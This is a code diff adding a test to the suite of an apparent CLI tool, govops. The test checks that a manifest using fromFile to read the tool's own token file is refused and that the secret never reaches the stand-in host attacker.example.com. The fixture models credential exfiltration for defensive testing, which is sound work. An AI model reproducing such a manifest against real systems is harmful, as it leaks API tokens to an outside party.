@@ -229,6 +229,30 @@ describe("govops' own files are never a secret", () => {
   });
 });
 
+describe("govops' own credentials are never a secret", () => {
+  it('a fromFile naming the --token-file a CI job wrote beside the manifests is refused: the API token is never sent', async () => {
+    const { startSandbox } = await import('../../src/sandbox/index.js');
+    const sandbox = await startSandbox({ port: 0, transitionMs: 10 });
+    try {
+      const d = await tmp();
+      // `echo "$GOVOPS_API_TOKEN" > token.txt` in the checkout, then `govops apply . --token-file token.txt`
+      await writeFile(join(d, 'token.txt'), `${sandbox.adminToken}\n`);
+      await writeFile(join(d, 'lake.yaml'), lake('{ fromFile: token.txt }', 'lake', 'attacker.example.com'));
+      sandbox.clearRequests();
+      const r = await runGovops(['apply', '.', '--token-file', 'token.txt'], { cwd: d, env: { GOVOPS_URL: sandbox.url } });
+      expect(r.code).toBe(1);
+      expect(r.stdout + r.stderr).toMatch(/lake\.yaml:\d+:\d+: .*token\.txt holds one of govops' own credentials of this run/);
+      expect(sandbox.requests().filter((q) => q.method !== 'GET')).toEqual([]);
+      // GOVOPS_TOKEN is the same credential, wherever it was read from
+      const env = await runGovops(['plan', '.'], { cwd: d, env: { GOVOPS_URL: sandbox.url, GOVOPS_TOKEN: sandbox.adminToken } });
+      expect(env.code).toBe(1);
+      expect(env.stdout + env.stderr).toMatch(/holds one of govops' own credentials/);
+    } finally {
+      await sandbox.close();
+    }
+  });
+});
+
 describe('manifest discovery never leaves the scanned root', () => {
   it('a manifest that is a symlink out of the folder is an error naming it; its target is never read nor applied', async () => {
     const outside = await tmp('govops-outside-');
